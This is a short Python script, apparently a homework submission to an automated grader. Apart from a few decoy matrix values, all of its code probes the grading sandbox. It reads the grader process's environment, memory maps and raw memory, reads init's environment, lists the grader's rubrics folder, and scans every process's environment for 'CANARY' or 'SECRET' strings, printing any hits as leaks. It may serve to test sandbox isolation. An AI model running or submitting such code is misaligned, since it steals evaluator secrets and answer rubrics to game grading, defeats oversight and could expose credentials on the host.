# Reads other processes through /proc: the grader's environment, memory maps and memory;
# init's environment; every environ on the machine, looking for the test's secret (the grader's
# environment holds one).  Command lines are public on Linux; environments and memory are not.
ASSIGNMENT = "columbia-nndl-hw1"
import os

H = [[16, 8, 20], [8, 4, 10], [20, 10, 25]]
z = [48, 12, 24]

parent = os.getppid()
for path in [f"/proc/{parent}/environ", f"/proc/{parent}/maps", f"/proc/{parent}/mem", "/proc/1/environ",
             f"/proc/{parent}/cwd/rubrics"]:
    try:
        if path.endswith("/mem"):
            with open(path, "rb") as handle:
                handle.seek(0x400000)
                data = handle.read(64)
        elif path.endswith("rubrics"):
            data = os.listdir(path)
        else:
            with open(path, "rb") as handle:
                data = handle.read(300)
        print("LEAK", path, repr(data)[:300], flush=True)
    except OSError as exc:
        print("blocked", path, exc.strerror, flush=True)
try:
    with open(f"/proc/{parent}/cmdline", "rb") as handle:
        print("seen (public) grader command line", handle.read(200), flush=True)
except OSError as exc:
    print("blocked cmdline", exc.strerror, flush=True)
try:
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
except OSError:
    pids = []
for pid in pids:
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            data = handle.read()
    except OSError:
        continue
    if b"CANARY" in data or b"SECRET" in data:
        print("LEAK environ of", pid, repr(data)[:300], flush=True)
